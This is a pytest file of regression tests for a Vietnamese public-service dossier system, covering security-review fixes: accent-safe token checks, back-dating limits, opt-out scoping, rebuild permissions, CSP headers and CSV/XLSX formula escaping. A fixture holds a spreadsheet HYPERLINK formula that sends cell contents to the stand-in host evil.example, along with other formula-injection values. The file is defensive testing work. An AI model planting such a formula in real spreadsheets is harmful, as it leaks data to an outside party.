"""The smaller holes of the security review (issue 15, item 7), each kept closed by a test that failed
before its fix: non-ASCII input to constant-time comparisons, back-dated desk actions on live
dossiers, opt-outs that ignored scope and told whether an address had opted out, a rebuild any unit's
administrator could start, pages without a Content-Security-Policy, and exports that let a
spreadsheet run a formula typed into a name."""
from __future__ import annotations

import csv
import io
from datetime import datetime, timedelta, timezone

import pytest
from openpyxl import load_workbook
from sqlalchemy import update

from security.world import A, B, PROVINCE, bearer

ADMIN = bearer("admin", unit=PROVINCE)  # the province's administrator

FORMULA = '=HYPERLINK("http://evil.example/x?"&A1,"Bấm vào đây")'


# -- non-ASCII input where a secret is compared -------------------------------------------------------------
@pytest.mark.parametrize("token", ["a" * 64 + ".chữký", "é" * 64 + ".x", "a" * 64 + "." + "\u00e9" * 32])
@pytest.mark.parametrize("method", ["GET", "POST"])
def test_an_unsubscribe_token_with_accents_is_an_invalid_link_not_a_crash(world, method, token):
    answer = world["notification"].client.open("/api/v1/unsubscribe", method=method, query_string={"t": token})
    assert answer.status_code == 404, answer.get_data(as_text=True)[:300]
    assert "Liên kết không hợp lệ" in answer.get_data(as_text=True)


def test_a_receipt_signature_with_accents_is_refused_like_any_bad_signature(world):
    answer = world["notification"].client.post(
        "/api/v1/delivery-receipts/sms-gateway", json={"reference": "gw-1", "status": "delivered"},
        headers={"X-Motcua-Signature": "sha256=é" + "0" * 63})
    assert answer.status_code == 401 and answer.content_type == "application/problem+json"
    assert answer.get_json()["code"] == "invalid_signature"


# -- back-dating a live dossier ------------------------------------------------------------------------------
def _live_dossier_received_days_ago(intake, days: int) -> str:
    """A dossier received at A's counter (not imported), made to have been received `days` ago."""
    from motcua_intake.models import dossiers

    code = intake.receive(A, "2L")
    then = datetime.now(timezone.utc) - timedelta(days=days)
    with intake.runtime.sessions.begin() as session:
        session.execute(update(dossiers).where(dossiers.c.code == code).values(
            submitted_at=then, received_at=then, created_at=then, last_event_at=then))
    return code


def test_an_administrator_may_not_back_date_an_action_on_a_live_dossier(world):
    intake = world["intake"]
    code = _live_dossier_received_days_ago(intake, 3)
    yesterday = datetime.now(timezone.utc) - timedelta(days=1)
    events = intake.client.get(f"/api/v1/dossiers/{code}", headers=ADMIN).get_json()["history"]
    for headers in (ADMIN, bearer("admin", unit=A)):
        answer = intake.client.post(f"/api/v1/dossiers/{code}/withdrawal-request", headers=headers,
                                    json={"reason": "Công dân không còn nhu cầu.", "occurred_at": yesterday.isoformat()})
        assert answer.status_code == 422 and answer.content_type == "application/problem+json", answer.get_json()
        assert answer.get_json()["code"] == "occurred_at_not_historical"
        assert answer.get_json()["invalid_params"][0]["name"] == "occurred_at"
    after = intake.client.get(f"/api/v1/dossiers/{code}", headers=ADMIN).get_json()
    assert after["status"] == "received" and after["history"] == events  # nothing stored
    # Now is still a moment an administrator may give, and without one the action is simply done now.
    now = intake.client.post(f"/api/v1/dossiers/{code}/withdrawal-request", headers=ADMIN,
                             json={"reason": "Công dân không còn nhu cầu.",
                                   "occurred_at": datetime.now(timezone.utc).isoformat()})
    assert now.status_code == 200, now.get_json()


def test_an_imported_dossier_may_still_be_dated_in_the_past(world):
    intake = world["intake"]
    made = intake.client.post("/api/v1/dossiers", headers=ADMIN, json={  # entered with its 2019 reception
        "procedure_code": "1.004884", "channel": "counter", "receiving_unit": A, "return_method": "counter",
        "received_at": "2019-03-15T08:30:00+07:00",
        "applicant": {"full_name": "Lò Văn Hùng", "id_number": "014090001234", "phone": None, "email": None,
                      "address": "Bản Hưng Mai"},
        "documents": [{"name": "Tờ khai", "copy_type": "original", "count": 1}]})
    assert made.status_code == 201, made.get_json()
    code = made.get_json()["code"]
    answer = intake.client.post(f"/api/v1/dossiers/{code}/withdrawal-request", headers=ADMIN,
                                json={"reason": "Công dân không còn nhu cầu.",
                                      "occurred_at": "2019-03-18T09:00:00+07:00"})
    assert answer.status_code == 200, answer.get_json()


# -- opt-outs ----------------------------------------------------------------------------------------------
def _opt_out(world, address: str, headers: dict):
    return world["notification"].client.post("/api/v1/opt-outs", json={"channel": "sms", "address": address},
                                             headers=headers)


def test_opting_out_answers_the_same_whether_or_not_the_address_had_opted_out(world):
    address = world["notification"].contact("2L", A)
    desk = bearer("receptionist", unit=A)
    first, again = _opt_out(world, address, desk), _opt_out(world, address, desk)
    assert first.status_code == again.status_code == 200
    assert first.get_json() == again.get_json()
    assert set(first.get_json()) == {"id", "channel", "address"}


def test_a_desk_opts_out_only_the_addresses_of_its_own_dossiers(world):
    notification = world["notification"]
    address = notification.contact("2L", A)
    for headers in (bearer("receptionist", unit=B), bearer("admin", unit=B)):
        refused = _opt_out(world, address, headers)
        assert refused.status_code == 404 and refused.get_json()["code"] == "address_not_found"
    unknown = _opt_out(world, "0399999999", bearer("receptionist", unit=A))  # on no dossier at all
    assert unknown.status_code == 404 and unknown.get_json()["code"] == "address_not_found"
    assert _opt_out(world, address, bearer("receptionist", unit=A)).status_code == 200
    province = _opt_out(world, "0399999998", bearer("admin", unit=PROVINCE))
    assert province.status_code == 200, province.get_json()
    opt_out_id = _opt_out(world, address, ADMIN).get_json()["id"]
    cancel = notification.client.delete(f"/api/v1/opt-outs/{opt_out_id}", headers=bearer("receptionist", unit=B))
    assert cancel.status_code == 404 and cancel.get_json()["code"] == "opt_out_not_found"
    assert notification.client.delete(f"/api/v1/opt-outs/{opt_out_id}",
                                      headers=bearer("receptionist", unit=A)).status_code == 204


# -- reporting's rebuild ------------------------------------------------------------------------------------
@pytest.mark.parametrize("unit", [A, "126"])
def test_only_a_province_administrator_rebuilds_reporting(world, unit):
    client = world["reporting"].client
    refused = client.post("/api/v1/admin/projections/rebuild", headers=bearer("admin", unit=unit))
    assert refused.status_code == 403 and refused.get_json()["code"] == "province_admin_only"
    # Queued as a job (202), or the one the shared world already queued followed (409 job_running).
    accepted = client.post("/api/v1/admin/projections/rebuild", headers=bearer("admin", unit=PROVINCE))
    assert accepted.status_code == 202 or (accepted.status_code, accepted.get_json()["code"]) == (409, "job_running")


# -- security headers on every page ------------------------------------------------------------------------
def _pages(world):
    intake = world["intake"]
    code = intake.dossier("2L", A, "received")
    return [("intake", "GET", "/tra-cuu", None), ("intake", "GET", f"/api/v1/dossiers/{code}/receipt", ADMIN),
            ("intake", "GET", "/docs", None), ("notification", "GET", "/api/v1/unsubscribe", None),
            ("reporting", "GET", "/dashboard", None), ("routing", "GET", "/docs", None)]


def test_every_html_page_sets_a_strict_content_security_policy(world):
    for service, method, path, headers in _pages(world):
        query = {"t": "x"} if "unsubscribe" in path else None
        answer = world[service].client.open(path, method=method, headers=headers or {}, query_string=query)
        assert answer.content_type.startswith("text/html"), (path, answer.status_code)
        policy = answer.headers.get("Content-Security-Policy", "")
        assert "default-src 'none'" in policy and "frame-ancestors 'none'" in policy, (path, policy)
        assert "unsafe-inline" not in policy and "script-src 'self'" in policy, (path, policy)
        assert answer.headers["X-Content-Type-Options"] == "nosniff", path
        assert answer.headers["Referrer-Policy"] == "no-referrer", path
        html = answer.get_data(as_text=True)
        nonce = policy.partition("'nonce-")[2].partition("'")[0]
        # Every inline style block carries this response's nonce; no style attribute, no inline script.
        assert html.count("<style") == html.count(f'<style nonce="{nonce}">'), path
        assert " style=" not in html and "<script>" not in html, path


# -- exports and spreadsheet formulas ----------------------------------------------------------------------
def _table():
    from motcua_reporting.exports.tables import PlainTable

    return PlainTable(title="Hồ sơ", unit_name=FORMULA, period_label="01/03/2019 – 31/03/2019",
                      headers=["Mã hồ sơ", "Đơn vị"],
                      rows=[["H52.04222-190315-0001", FORMULA], ["+84912345678", "-1+2"], ["@SUM(A1)", "\tx"],
                            ["x", 3]])


def test_a_csv_export_shows_a_formula_as_text():
    from motcua_reporting.exports import csv_file

    rows = list(csv.reader(io.StringIO(csv_file.render(_table()).decode("utf-8-sig"))))
    assert rows[1] == ["H52.04222-190315-0001", "'" + FORMULA]
    assert rows[2] == ["'+84912345678", "'-1+2"] and rows[3] == ["'@SUM(A1)", "'\tx"] and rows[4] == ["x", "3"]


def test_an_xlsx_export_writes_a_formula_as_a_string_cell():
    from motcua_reporting.exports import xlsx_file

    sheet = load_workbook(io.BytesIO(xlsx_file.render(_table()))).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == FORMULA]
    assert len(cells) == 2 and all(cell.data_type == "s" for cell in cells)  # the title and the row
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
